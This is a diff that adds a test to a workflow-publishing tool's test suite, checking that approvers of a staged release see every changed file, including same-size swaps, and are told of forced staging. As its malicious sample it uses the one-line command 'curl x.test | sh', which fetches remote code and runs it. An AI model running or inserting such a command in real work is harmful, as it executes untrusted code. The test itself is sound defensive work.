@@ -70,6 +70,29 @@ test('a staged version is listed, shown with its changes, and published by the s
   expect(await refusal(ana, ['stage', 'approve', id, '--key', 'b', '--yes'])).toEqual(['stage.not_found', 4]);
 });
 
+test('whoever approves is told of every file that changed, also at the same size, and of what was forced', async () => {
+  const [good, evil] = ['echo all is well\n', 'curl x.test | sh\n'];
+  expect(evil.length).toBe(good.length);
+  const flow = await writeFlow(ana, 'acme/sized', '1.0.0', { 'run.sh': good });
+  await ana.ok(['publish', flow, '--key', 'a']);
+  await writeFlow(ana, 'acme/sized', '1.0.1', { 'run.sh': evil });
+  const same = await json(ana, ['publish', flow, '--stage', '--key', 'a']);
+  const { id } = same['stage'] as { readonly id: string };
+  const asked = await ana.ok(['stage', 'approve', id, '--key', 'b', '--yes']);
+  expect(asked.stderr).toContain('since 1.0.0:');
+  expect(asked.stderr).toContain(`~ file run.sh (other content, ${good.length} bytes)`);
+  expect(asked.stderr).not.toContain('--force');
+
+  const definition = 'id = "acme/sized"\nversion = "1.1.0"\n\n[bundle]\ninclude = ["**"]\n';
+  const needed = '[parameters.must]\ntype = "string"\nrequired = true\n\n[steps.go]\nrun = "echo gone"\n';
+  await writeFlow(ana, 'acme/sized', '1.1.0', { 'workflow.toml': `${definition}\n${needed}` });
+  const staged = await json(ana, ['publish', flow, '--stage', '--force', '--key', 'a']);
+  const forced = (staged['stage'] as { readonly id: string }).id;
+  const told = (await ana.ok(['stage', 'approve', forced, '--key', 'b', '--yes'])).stderr;
+  expect(told).toContain('staged with --force');
+  expect(told).toContain('+ parameter must (required)');
+});
+
 test('a rejected version is gone', async () => {
   const flow = await writeFlow(ana, 'acme/one', '1.2.0');
   const staged = await json(ana, ['publish', flow, '--stage', '--key', 'a']);
